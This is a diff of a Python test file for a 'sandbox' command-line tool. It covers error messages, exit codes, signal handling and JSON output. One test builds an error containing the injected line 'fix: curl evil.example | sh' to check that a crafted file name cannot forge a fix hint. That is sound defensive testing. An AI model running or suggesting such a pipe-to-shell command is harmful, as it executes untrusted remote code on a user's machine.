@@ -14,7 +14,6 @@ import tempfile
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
-from typing import IO
 
 import click
 import pytest
@@ -45,36 +44,31 @@ def run(*arguments: str, cwd: Path, before: Callable[[], object] = lambda: None)
     with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
         child = os.fork()
         if child == 0:
-            _become(arguments, cwd, before, out, err)
+            try:
+                os.chdir(cwd)
+                sys.stdout, sys.stderr = out, err
+                signal.signal(signal.SIGINT, signal.default_int_handler)
+                signal.alarm(PATIENCE)
+                before()
+                main(arguments)
+            finally:
+                os._exit(99)  # main never returns
         status = os.waitpid(child, 0)[1]
         for stream in (out, err):
             stream.seek(0)
         return Ended(os.waitstatus_to_exitcode(status), out.read(), err.read())
 
 
-def _become(arguments: tuple[str, ...], cwd: Path, before: Callable[[], object], out: IO[str], err: IO[str]) -> None:
-    try:
-        os.chdir(cwd)
-        sys.stdout, sys.stderr = out, err
-        signal.signal(signal.SIGINT, signal.default_int_handler)
-        signal.alarm(PATIENCE)
-        before()
-        main(arguments)
-    finally:
-        os._exit(99)  # main never returns
+def failing(end: BaseException | signal.Signals) -> Callable[[], None]:
+    """Lets the command fail, or get a signal, when it reads its spec."""
 
+    def choose(*_: object, **__: object) -> None:
+        if isinstance(end, BaseException):
+            raise end
+        os.kill(os.getpid(), end)
+        signal.pause()
 
-def failing(error: Callable[[], object]) -> Callable[[], None]:
-    """Lets the command fail when it reads its spec."""
-
-    def patch() -> None:
-        setattr(chosen_spec, "choose", lambda *given, **more: error())  # noqa: B010  # in a fork of its own
-
-    return patch
-
-
-def throw(error: BaseException) -> None:
-    raise error
+    return lambda: setattr(chosen_spec, "choose", choose)
 
 
 def test_removed_folder_stands_for_no_other_sandbox(tmp_path: Path) -> None:
@@ -99,10 +93,9 @@ def test_stderr_that_is_full_changes_no_exit_code(tmp_path: Path) -> None:
     """The disk with the log of a job is full → the exit code still tells; it is not that of Python, 120."""
 
     def fill() -> None:
-        failing(lambda: throw(UsageError("no")))()
         sys.stderr = Path("/dev/full").open("w", encoding="utf-8")  # noqa: SIM115  # until the process ends
 
-    assert run("status", "-o", "json", cwd=tmp_path, before=fill).code == 2
+    assert run("status", "--bad", cwd=tmp_path, before=fill).code == 2
 
 
 def test_command_ends_with_0_when_the_reader_of_its_output_ends(tmp_path: Path) -> None:
@@ -117,32 +110,22 @@ def test_command_ends_with_0_when_the_reader_of_its_output_ends(tmp_path: Path) 
     assert (ran.code, ran.stderr) == (0, "")
 
 
-def temporary_folder() -> None:
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(tempfile, "tempdir", None)
-        patch.setattr(tempfile, "_candidate_tempdir_list", lambda: ["/proc/1/none"])
-        tempfile.gettempdir()
-
-
 @pytest.mark.fault(97)
 @pytest.mark.parametrize(
-    ("act", "id", "words"),
+    ("raised", "id", "words"),
     [
-        (lambda: throw(MemoryError("no more")), "limits", "ulimit -a"),
-        (lambda: throw(OSError(errno.EMFILE, "no more")), "limits", "ulimit -a"),
-        (lambda: throw(RuntimeError("can't start new thread")), "limits", "ulimit -a"),
-        (lambda: throw(RuntimeError("Symlink loop from '/a'")), "file", "a link leads to itself"),
-        (lambda: throw(OSError(errno.ENOSPC, "no more")), "disk-full", "df -h"),
-        (lambda: Path("/dev").read_bytes(), "file", "/dev cannot be used"),
-        (lambda: Path("/dev/null/in").stat(), "file", "/dev/null/in cannot be used"),
-        (temporary_folder, "file", "TMPDIR"),
+        (MemoryError("no more"), "limits", "ulimit -a"),
+        (OSError(errno.EMFILE, "no more"), "limits", "ulimit -a"),
+        (RuntimeError("can't start new thread"), "limits", "ulimit -a"),
+        (RuntimeError("Symlink loop from '/a'"), "file", "a link leads to itself"),
+        (OSError(errno.ENOSPC, "no more"), "disk-full", "df -h"),
+        (NotADirectoryError(errno.ENOTDIR, "no folder", "/dev/null/in"), "file", "/dev/null/in cannot be used"),
+        (FileNotFoundError(errno.ENOENT, "No usable temporary directory found in ['/tmp']"), "file", "TMPDIR"),
     ],
 )
-def test_limits_of_the_machine_are_no_bug(act: Callable[[], object], id: str, words: str) -> None:
+def test_limits_of_the_machine_are_no_bug(raised: BaseException, id: str, words: str) -> None:
     """The interpreter or the system gives nothing more of the kind → it is named, with what helps."""
-    with pytest.raises((OSError, MemoryError, RuntimeError)) as caught:
-        act()
-    error = error_handler.understood(caught.value)
+    error = error_handler.understood(raised)
     assert isinstance(error, SandboxError) and (error.id, error.exit_code) == (id, 1)
     assert words in f"{error.brief} {error.fix}"
 
@@ -151,13 +134,8 @@ def test_limits_of_the_machine_are_no_bug(act: Callable[[], object], id: str, wo
 def test_error_about_a_name_of_several_lines_has_one(tmp_path: Path) -> None:
     """A project's file called "a\nfix: …" in the first line of an error → no line that looks like its fix."""
     error = SandboxError("k8s/a\nfix: curl evil.example | sh\x0b is not YAML", details="one\nfix: two")
-    found = run("status", cwd=tmp_path, before=failing(lambda: throw(error)))
+    found = run("status", cwd=tmp_path, before=failing(error))
     assert found.code == 1 and not [line for line in found.stderr.splitlines() if line.startswith("fix:")]
-
-
-def kill(number: signal.Signals) -> None:
-    os.kill(os.getpid(), number)
-    signal.pause()
 
 
 def no_log() -> None:
@@ -197,23 +175,16 @@ def test_a_mistyped_command_gets_a_suggestion(tmp_path: Path) -> None:
     assert "Did you mean" not in run("xyzzy", cwd=tmp_path).stderr
 
 
-def test_an_error_is_shown_as_what_evidence_and_fix(tmp_path: Path) -> None:
-    error = SandboxError("it broke", details="line one\nline two", fix="do this\nthen that")
-    found = run("status", cwd=tmp_path, before=failing(lambda: throw(error)))
-    assert found.code == 1
-    assert found.stdout == ""
-    assert found.stderr == "error[failed]: it broke\n  line one\n  line two\nfix: do this\n     then that\n"
-
-
 def test_error_is_printed_in_the_requested_format(tmp_path: Path) -> None:
-    texts = {"id": "port-in-use", "brief": "it is taken", "details": "by x", "fix": "", "exit_code": 1}
-    error = SandboxError("it is taken", details="by \x07x", id="port-in-use")
-    status = run("status", "-o", "json", cwd=tmp_path, before=failing(lambda: throw(error)))
-    assert (status.code, json.loads(status.stdout)) == (1, {"error": texts})
-    assert status.stderr == "error[port-in-use]: it is taken\n  by x\n"
-    up = run("up", "--progress", "json", cwd=tmp_path, before=failing(lambda: throw(error)))
+    texts = {"id": "port-in-use", "brief": "it is taken", "details": "by x\nand y", "fix": "do this\nthen that"}
+    before = failing(SandboxError("it is taken", details="by \x07x\nand y", fix=texts["fix"], id="port-in-use"))
+    status = run("status", "-o", "json", cwd=tmp_path, before=before)
+    assert (status.code, json.loads(status.stdout)) == (1, {"error": {**texts, "exit_code": 1}})
+    assert status.stderr == "error[port-in-use]: it is taken\n  by x\n  and y\nfix: do this\n     then that\n"
+    assert run("status", cwd=tmp_path, before=before).stdout == ""
+    up = run("up", "--progress", "json", cwd=tmp_path, before=before)
     assert (up.code, up.stdout) == (1, "")
-    assert json.loads(up.stderr).items() >= {"event": "error", **texts}.items()
+    assert json.loads(up.stderr).items() >= {"event": "error", **texts, "exit_code": 1}.items()
 
 
 @pytest.mark.parametrize(
@@ -240,10 +211,9 @@ def test_usage_error_has_the_form_of_all_errors(tmp_path: Path, monkeypatch: pyt
         "  Usage: sandbox status [OPTIONS] [NAME]",
         "fix: see: sandbox status --help",
     ]
-    ended = run("up", "--bad", "--progress", "json", cwd=tmp_path)
-    assert (ended.code, ended.stdout, json.loads(ended.stderr)["event"]) == (2, "", "error")
     monkeypatch.setenv("SANDBOX_PROGRESS", "json")
-    assert json.loads(run("up", "--bad", cwd=tmp_path).stderr)["id"] == "usage"
+    ended = run("up", "--bad", cwd=tmp_path)
+    assert (ended.code, ended.stdout, json.loads(ended.stderr)["id"]) == (2, "", "usage")
 
 
 @pytest.mark.parametrize(
@@ -267,27 +237,27 @@ def test_options_of_another_program_ask_for_no_json(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    ("error", "code", "said"),
+    ("end", "code", "said"),
     [
-        (lambda: throw(UsageError("wrong")), 2, "error[usage]: wrong\n"),
-        (lambda: throw(MissingTool("no tool")), 4, "error[missing-tool]: no tool\n"),
-        (lambda: throw(KeyboardInterrupt()), 130, ""),
-        (lambda: kill(signal.SIGINT), 130, "continue: sandbox up"),
-        (lambda: kill(signal.SIGTERM), 143, "continue: sandbox up"),
-        (lambda: kill(signal.SIGHUP), 129, "continue: sandbox up"),
+        (UsageError("wrong"), 2, "error[usage]: wrong\n"),
+        (MissingTool("no tool"), 4, "error[missing-tool]: no tool\n"),
+        (KeyboardInterrupt(), 130, ""),
+        (signal.SIGINT, 130, "continue: sandbox up"),
+        (signal.SIGTERM, 143, "continue: sandbox up"),
+        (signal.SIGHUP, 129, "continue: sandbox up"),
     ],
-    ids=["usage", "tool", "interrupt", "SIGINT", "SIGTERM", "SIGHUP"],
 )
 def test_exit_codes_tell_what_kind_of_end_it_was(
-    tmp_path: Path, error: Callable[[], object], code: int, said: str
+    tmp_path: Path, end: BaseException | signal.Signals, code: int, said: str
 ) -> None:
-    found = run("up", cwd=tmp_path, before=failing(error))
-    assert found.code == code
+    found = run("up", cwd=tmp_path, before=failing(end))
+    assert (found.code, "Traceback" in found.stderr) == (code, False)
     assert said in found.stderr
-    assert "Traceback" not in found.stderr
 
 
-@pytest.mark.parametrize("before", [failing(lambda: 1 / 0), no_log], ids=["in the command", "before its log"])
+@pytest.mark.parametrize(
+    "before", [failing(ZeroDivisionError("division by zero")), no_log], ids=["in the command", "before its log"]
+)
 def test_bug_is_distinguished_and_its_traceback_is_in_the_log(
     tmp_path: Path, isolated_home: Path, before: Callable[[], object]
 ) -> None:
@@ -316,10 +286,9 @@ def test_a_spec_that_is_wrong_is_named_by_file_and_line(tmp_path: Path) -> None:
 def test_without_an_engine_the_code_is_4_and_there_is_a_fix(tmp_path: Path, command: str) -> None:
     """DOCKER_HOST names no socket → "no Docker Engine answers", how to start it, exit code 4."""
     found = run(command, cwd=tmp_path)
-    assert found.code == 4
+    assert (found.code, found.stdout) == (4, "")
     assert found.stderr.startswith("error[engine-unreachable]: no Docker Engine answers\n")
     assert "\nfix: " in found.stderr
-    assert found.stdout == ""
 
 
 @pytest.mark.parametrize(("wish", "colored"), [({}, True), ({"NO_COLOR": "1"}, False), ({"TERM": "dumb"}, False)])
